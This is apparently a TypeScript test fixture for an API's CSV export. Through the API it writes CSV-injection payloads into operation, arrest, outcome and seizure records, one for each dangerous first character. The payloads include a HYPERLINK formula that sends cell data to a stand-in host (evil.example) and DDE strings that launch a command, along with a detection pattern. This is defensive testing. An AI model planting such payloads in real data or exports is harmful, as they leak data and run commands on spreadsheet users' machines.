import request from 'supertest';
import { bearer, SeededScratchApp } from './seeded-scratch';

/**
 * Text an editor (or a leaked editor key, or a careless import) can store that a spreadsheet would run as a
 * formula if a CSV gave it back verbatim (OWASP "CSV Injection"): one payload per dangerous first character.
 */
export const FORMULA_PAYLOADS: Record<string, string> = {
  '=': '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+': "+1+cmd|' /C calc'!A0",
  '-': "-2+3+cmd|' /C calc'!A0",
  '@': "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t': '\t=1+1',
  '\r': '\r=1+1',
};
/** Units cannot start with white space: the payloads of the four printable characters. */
export const UNIT_PAYLOADS = ['=', '+', '-', '@'].map((first) => FORMULA_PAYLOADS[first]);

export const HOSTILE_OPERATION = 'hostile-2026';
export const HOSTILE_OPERATION_NAME = '@SUM(1+1) Hostile';
export const HOSTILE_PUBLISHER = '=HYPERLINK("http://evil.example/p","publisher")';
export const HOSTILE_SOURCE_URL = 'https://evil.example/hostile-report';
export const HOSTILE_REASON = '=1+1 corrected';

/** A number as a spreadsheet reads one: such a cell may start with a minus sign. */
export const NUMERIC_CELL = /^-?\d+(\.\d+)?$/;
/** The first characters that make a spreadsheet evaluate a cell (OWASP). */
export const DANGEROUS_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export interface HostileFixture {
  editor: { Authorization: string };
  /** Ids of the figures written, by type. */
  ids: { seizure: number[]; arrest: number[]; outcome: number[] };
}

/**
 * Writes hostile text through the API, as an editor would: an operation whose name, notes and publisher are
 * formulas, and seizures, arrests and outcomes whose notes, unit or category start with each dangerous
 * character; then corrects one arrest with a formula as its reason (the revisions and the change feed).
 */
export async function writeHostileText(ctx: SeededScratchApp): Promise<HostileFixture> {
  const server = ctx.server;
  const key = await request(server)
    .post('/v1/api-keys')
    .set(bearer(ctx.adminKey))
    .send({ name: 'Hostile desk', role: 'editor' })
    .expect(201);
  const editor = bearer(key.body.key as string);
  await request(server)
    .post('/v1/operations')
    .set(editor)
    .send({
      code: HOSTILE_OPERATION,
      name: HOSTILE_OPERATION_NAME,
      series: 'pangea',
      year: 2026,
      notes: FORMULA_PAYLOADS['='],
      source: { url: HOSTILE_SOURCE_URL, publisher: HOSTILE_PUBLISHER, tier: 'media' },
    })
    .expect(201);
  const ids: HostileFixture['ids'] = { seizure: [], arrest: [], outcome: [] };
  const post = async (type: keyof HostileFixture['ids'], body: Record<string, unknown>) => {
    const res = await request(server)
      .post(`/v1/${type}s`)
      .set(editor)
      .send({ operation: HOSTILE_OPERATION, qualifier: 'exact', source: { url: HOSTILE_SOURCE_URL }, ...body })
      .expect(201);
    ids[type].push(res.body.id as number);
  };
  let quantity = 100;
  for (const payload of Object.values(FORMULA_PAYLOADS)) {
    await post('arrest', {
      kind: 'arrests',
      quantity: String(quantity++),
      unit: 'people',
      category: payload,
      notes: payload,
    });
  }
  for (const unit of UNIT_PAYLOADS) {
    await post('outcome', { kind: 'other', quantity: String(quantity++), unit, notes: unit });
  }
  await post('seizure', {
    kind: 'items_seized',
    quantity: String(quantity++),
    unit: UNIT_PAYLOADS[0],
    category: FORMULA_PAYLOADS['@'],
    notes: FORMULA_PAYLOADS['-'],
  });
  await request(server)
    .patch(`/v1/arrests/${ids.arrest[0]}`)
    .set(editor)
    .send({ quantity: '99', reason: HOSTILE_REASON })
    .expect(200);
  return { editor, ids };
}
